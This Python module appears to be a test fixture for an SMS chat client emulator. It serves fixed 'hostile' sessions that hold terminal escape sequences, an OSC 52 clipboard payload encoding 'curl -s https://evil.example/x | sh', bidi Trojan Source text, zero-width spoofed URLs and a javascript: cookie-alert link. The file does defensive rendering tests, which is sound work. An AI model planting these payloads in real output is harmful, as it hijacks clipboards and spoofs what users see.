"""The HOSTILE scenario: sessions whose server text attacks whoever displays it.

Every attack sits in one clearly named place, listed in HOSTILE_CASES, so tests can fetch it
and check what a client does with it. The content is fixed: no randomness and no clock (all
timestamps are pinned to HOSTILE_EPOCH_MS), so two builds serve identical documents.

The sessions:

* HOSTILE_TERMINAL_SESSION_ID - terminal control: CSI, SGR, OSC 52/8/0, DCS/APC/PM/SOS, BEL,
  backspace and carriage-return overwrites, C0 and C1 controls, the 8-bit CSI, DEL and NUL.
* HOSTILE_UNICODE_SESSION_ID - bidi overrides and isolates ("trojan source"), zero-width
  characters, a lone surrogate, plus text that must survive untouched: a non-BMP emoji, a
  legitimate emoji ZWJ sequence, and tabs and newlines.
* HOSTILE_MARKUP_SESSION_ID - Rich markup, emoji codes, a ``javascript:`` PushUrl and an agent
  whose nickname is made of markup and escapes.
* HOSTILE_HUGE_SESSION_ID - one 200,000-character message between two short ones.
* HOSTILE_RESOURCE_SESSION_ID - the session resource itself: a hostile state string, hostile
  capability names, hostile userData keys and values and a hostile participant id.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Any

from smscli.emulator.scenario import participant
from smscli.emulator.state import EmulatorState, capabilities_for
from smscli.emulator.timestamps import TimestampStyle, fixed_offset

HOSTILE_TERMINAL_SESSION_ID = "0000HOSTILE00001"
HOSTILE_UNICODE_SESSION_ID = "0000HOSTILE00002"
HOSTILE_MARKUP_SESSION_ID = "0000HOSTILE00003"
HOSTILE_HUGE_SESSION_ID = "0000HOSTILE00004"
HOSTILE_RESOURCE_SESSION_ID = "0000HOSTILE00005"
HOSTILE_SESSION_IDS = (
    HOSTILE_TERMINAL_SESSION_ID,
    HOSTILE_UNICODE_SESSION_ID,
    HOSTILE_MARKUP_SESSION_ID,
    HOSTILE_HUGE_SESSION_ID,
    HOSTILE_RESOURCE_SESSION_ID,
)

HOSTILE_EPOCH_MS = 1_709_208_000_000  # 2024-02-29 12:00:00 UTC, when every hostile chat starts
HUGE_TEXT_LENGTH = 200_000
_STYLE = TimestampStyle(fixed_offset(0))

# -- the attack texts ------------------------------------------------------------------------

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"  # string terminator
CLIPBOARD_PAYLOAD = "curl -s https://evil.example/x | sh\n"
OSC52_TEXT = f"{ESC}]52;c;{base64.b64encode(CLIPBOARD_PAYLOAD.encode()).decode()}{BEL}"
C1_CONTROLS = "".join(map(chr, range(0x80, 0xA0)))  # U+0080..U+009F, 8-bit CSI (U+009B) included
# Every C0 control except ESC (it has cases of its own) and tab and newline (legitimate text).
C0_CONTROLS = "".join(chr(c) for c in range(0x01, 0x20) if chr(c) not in "\t\n\x1b")
# The example from "Trojan Source" (Boucher and Anderson, 2021): RLO and isolates make the
# comment appear outside the string literal it is really inside.
TROJAN_SOURCE = 'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066" {'
EMOJI_ZWJ_SEQUENCE = (  # family, rainbow flag, woman technologist: the ZWJs must survive
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 "
    "\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f469\U0001f3fd\u200d\U0001f4bb"
)
MARKUP_NICKNAME = f"[reverse]Agent{ESC}[8m"
HOSTILE_STATE = f"Chatting{ESC}[2J{ESC}]0;pwned{BEL}[blink]\u202e"
HOSTILE_CAPABILITY = f"{ESC}[31mDeleteEverything[/]\u202e"
HOSTILE_PARTICIPANT_ID = f"{ESC}[2J\u202e00HOSTILE[/]\x00"
HOSTILE_USER_DATA_KEY = f"{ESC}[2J[bold]Subject\u202e\u200b"
HOSTILE_USER_DATA_VALUE = f"{OSC52_TEXT}[red]Refund approved[/red]\r{ESC}[1A\u2066ok\u2069"
JAVASCRIPT_URL = "javascript:alert(document.cookie)"


def _huge_text() -> str:
    sentence = "All work and no play makes the SMS client truncate long messages. "
    return (sentence * (HUGE_TEXT_LENGTH // len(sentence) + 1))[:HUGE_TEXT_LENGTH]


HUGE_TEXT = _huge_text()

# Attack name -> message text, in transcript order; the session and message index follow.
_TERMINAL_TEXTS = (
    ("csi_clear_screen", f"Hello{ESC}[2J{ESC}[Hthe screen was cleared"),
    ("csi_cursor_movement", f"line one{ESC}[1A{ESC}[2K{ESC}[10;20Hmoved{ESC}[5D{ESC}[3C!"),
    ("sgr_colour", f"{ESC}[31mthis and everything after it is red"),
    ("osc52_clipboard", f"Copy this: {OSC52_TEXT}harmless text"),
    ("osc8_hyperlink", f"{ESC}]8;;https://evil.example/{ST}click here{ESC}]8;;{ST}"),
    ("osc0_window_title", f"{ESC}]0;Bank of Trust - secure session{BEL}title changed"),
    ("dcs_string", f"{ESC}P$qm{ST}{ESC}P+q544e{ST}DCS requests"),
    ("apc_string", f"{ESC}_Gf=100,a=T;iVBORw0KGgo={ST}APC (kitty graphics)"),
    ("pm_string", f"{ESC}^privacy message{ST}PM"),
    ("sos_string", f"{ESC}Xstart of string{ST}SOS"),
    ("bel", f"ding{BEL}{BEL}{BEL}"),
    ("backspace_overwrite", "safe\b\b\b\bEVIL"),
    ("carriage_return_overwrite", "I agree\rI refuse"),
    ("c0_controls", f"C0[{C0_CONTROLS}]"),
    ("c1_controls", f"C1[{C1_CONTROLS}]"),
    ("c1_csi", "\x9b2J\x9b31m8-bit CSI: cleared and red"),
    ("del", "DEL\x7f\x7f\x7fDEL"),
    ("nul", "before\x00after"),
)
_UNICODE_TEXTS = (
    ("bidi_overrides", "\u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c invoice\u202efdp.exe"),
    ("bidi_isolates", "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069 \u2067abc"),
    ("trojan_source", TROJAN_SOURCE),
    ("zero_width", "https://pay\u200bpal\u200c.example/\u200dlog\u2060in\ufeff"),
    ("lone_surrogate", "broken \ud800 surrogate"),
    ("non_bmp_emoji", "Thanks \U0001f600 \U0001f64f \U0001d400"),
    ("emoji_zwj_sequence", EMOJI_ZWJ_SEQUENCE),
    ("tabs_newlines", "Order:\n\tItem 1\t\u00a35.00\n\tItem 2\t\u00a37.50\n\nThanks"),
)
_MARKUP_TEXTS = (
    ("rich_markup_style", "[bold red]ALERT[/bold red] your account is locked"),
    ("rich_markup_link", "[link=https://evil.example]x[/link]"),
    ("emoji_codes", ":smile: :warning:"),
)


@dataclass(frozen=True)
class HostileCase:
    """Where one attack is stored, and exactly what is stored there.

    ``message_index`` is None when the attack is in the session resource (as served under
    ``smssession``), else the ``index`` of the message holding it. ``path`` leads from that
    resource or message to the value (dict keys and list positions). When ``in_key`` is true
    the path leads to an object and ``text`` is one of its keys instead of a value.
    """

    session_id: str
    message_index: int | None
    path: tuple[str | int, ...]
    text: str
    in_key: bool = False

    def find(self, document: Any) -> Any:
        """The value at ``path`` in a session resource or message (the object if ``in_key``)."""
        for step in self.path:
            document = document[step]
        return document


# -- building --------------------------------------------------------------------------------


class _HostileChat:
    """Messages with dense indexes from 1 and fixed times, one second apart."""

    def __init__(self, session_id: str, cases: dict[str, HostileCase]) -> None:
        self.session_id = session_id
        self.messages: list[dict[str, Any]] = []
        self._cases = cases

    def add(self, kind: str, sender: dict[str, Any], **fields: Any) -> int:
        index = len(self.messages) + 1
        millis = HOSTILE_EPOCH_MS + index * 1000
        self.messages.append(
            {
                "index": index,
                "type": kind,
                "from": dict(sender),
                **fields,
                "visibility": "All",
                "timestamp": _STYLE.format(millis),
                "timestampSeconds": millis,
            }
        )
        return index

    def attack(self, name: str, sender: dict[str, Any], text: str) -> None:
        index = self.add("Text", sender, text=text)
        _register(self._cases, name, HostileCase(self.session_id, index, ("text",), text))


def _register(cases: dict[str, HostileCase], name: str, case: HostileCase) -> None:
    if name in cases:
        raise ValueError(f"duplicate hostile case {name}")
    cases[name] = case


def _session(session_id: str, state: str, participants: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "id": session_id,
        "state": state,
        "participants": participants,
        "capabilities": capabilities_for(state),
        "userData": {},
        "receivedDate": _STYLE.format(HOSTILE_EPOCH_MS - 5000),
    }


Built = tuple[dict[str, Any], list[dict[str, Any]]]


def _terminal_session(cases: dict[str, HostileCase], base_url: str) -> Built:
    agent = participant("Agent", "Sam", "00F0000000000102", base_url)
    customer = participant("Customer", "+44 7700 900001", "00F0000000000101")
    chat = _HostileChat(HOSTILE_TERMINAL_SESSION_ID, cases)
    chat.add("ParticipantJoined", customer)
    chat.add("ParticipantJoined", agent)
    for name, text in _TERMINAL_TEXTS:
        chat.attack(name, customer, text)
    session = _session(HOSTILE_TERMINAL_SESSION_ID, "Chatting", [agent, customer])
    session["userData"] = {"Subject": "Terminal escapes"}
    return session, chat.messages


def _unicode_session(cases: dict[str, HostileCase], base_url: str) -> Built:
    agent = participant("Agent", "Sam", "00F0000000000202", base_url)
    customer = participant("Customer", "+44 7700 900002", "00F0000000000201")
    chat = _HostileChat(HOSTILE_UNICODE_SESSION_ID, cases)
    chat.add("ParticipantJoined", customer)
    chat.add("ParticipantJoined", agent)
    for name, text in _UNICODE_TEXTS:
        chat.attack(name, customer, text)
    session = _session(HOSTILE_UNICODE_SESSION_ID, "Chatting", [agent, customer])
    session["userData"] = {"Subject": "Invisible and reordered text"}
    return session, chat.messages


def _markup_session(cases: dict[str, HostileCase], base_url: str) -> Built:
    agent = participant("Agent", MARKUP_NICKNAME, "00F0000000000302", base_url)
    customer = participant("Customer", "+44 7700 900003", "00F0000000000301")
    chat = _HostileChat(HOSTILE_MARKUP_SESSION_ID, cases)
    chat.add("ParticipantJoined", customer)
    joined = chat.add("ParticipantJoined", agent)
    sid = HOSTILE_MARKUP_SESSION_ID
    nickname_in_session = HostileCase(sid, None, ("participants", 0, "nickname"), MARKUP_NICKNAME)
    _register(cases, "markup_nickname", nickname_in_session)
    nickname_in_message = HostileCase(sid, joined, ("from", "nickname"), MARKUP_NICKNAME)
    _register(cases, "markup_nickname_in_message", nickname_in_message)
    for name, text in _MARKUP_TEXTS:
        chat.attack(name, customer, text)
    pushed = chat.add("PushUrl", agent, url=JAVASCRIPT_URL)
    _register(
        cases,
        "push_url_javascript",
        HostileCase(HOSTILE_MARKUP_SESSION_ID, pushed, ("url",), JAVASCRIPT_URL),
    )
    session = _session(HOSTILE_MARKUP_SESSION_ID, "Chatting", [agent, customer])
    session["userData"] = {"Subject": "Markup"}
    return session, chat.messages


def _huge_session(cases: dict[str, HostileCase], base_url: str) -> Built:
    agent = participant("Agent", "Sam", "00F0000000000402", base_url)
    customer = participant("Customer", "+44 7700 900004", "00F0000000000401")
    chat = _HostileChat(HOSTILE_HUGE_SESSION_ID, cases)
    chat.add("Text", customer, text="I am about to paste something long")
    chat.attack("huge_text", customer, HUGE_TEXT)
    chat.add("Text", agent, text="That was long.")
    session = _session(HOSTILE_HUGE_SESSION_ID, "Completed", [])
    session["userData"] = {"Subject": "Very long message"}
    return session, chat.messages


def _resource_session(cases: dict[str, HostileCase], base_url: str) -> Built:
    agent = participant("Agent", "Sam", "00F0000000000502", base_url)
    customer = participant("Customer", "+44 7700 900005", HOSTILE_PARTICIPANT_ID)
    chat = _HostileChat(HOSTILE_RESOURCE_SESSION_ID, cases)
    joined = chat.add("ParticipantJoined", customer)
    chat.add("ParticipantJoined", agent)
    chat.add("Text", customer, text="Look at the session itself, not at me")
    session = _session(HOSTILE_RESOURCE_SESSION_ID, HOSTILE_STATE, [agent, customer])
    session["capabilities"] = ["SendMessage", HOSTILE_CAPABILITY, "Complete"]
    session["userData"] = {
        "ContactId": "0000XaB5RF5008H5",
        HOSTILE_USER_DATA_KEY: "the key is the attack",
        "Subject": HOSTILE_USER_DATA_VALUE,
    }
    sid = HOSTILE_RESOURCE_SESSION_ID
    bad_id = HOSTILE_PARTICIPANT_ID
    for name, case in (
        ("state", HostileCase(sid, None, ("state",), HOSTILE_STATE)),
        ("capability_name", HostileCase(sid, None, ("capabilities", 1), HOSTILE_CAPABILITY)),
        ("user_data_key", HostileCase(sid, None, ("userData",), HOSTILE_USER_DATA_KEY, True)),
        (
            "user_data_value",
            HostileCase(sid, None, ("userData", "Subject"), HOSTILE_USER_DATA_VALUE),
        ),
        ("participant_id", HostileCase(sid, None, ("participants", 1, "participantId"), bad_id)),
        ("participant_id_in_message", HostileCase(sid, joined, ("from", "participantId"), bad_id)),
    ):
        _register(cases, name, case)
    return session, chat.messages


_BUILDERS = (_terminal_session, _unicode_session, _markup_session, _huge_session, _resource_session)


def _build(base_url: str) -> tuple[list[Built], dict[str, HostileCase]]:
    cases: dict[str, HostileCase] = {}
    return [build(cases, base_url) for build in _BUILDERS], cases


HOSTILE_CASES: Mapping[str, HostileCase] = MappingProxyType(_build("")[1])
"""Attack name -> HostileCase; see the module docstring for the sessions they live in."""


def build_hostile_state(base_url: str = "") -> EmulatorState:
    """The hostile sessions (ids in HOSTILE_SESSION_IDS); identical on every call."""
    state = EmulatorState(base_url)
    built, _ = _build(state.base_url)
    for session, messages in built:
        state.add_session(session, messages)
    return state
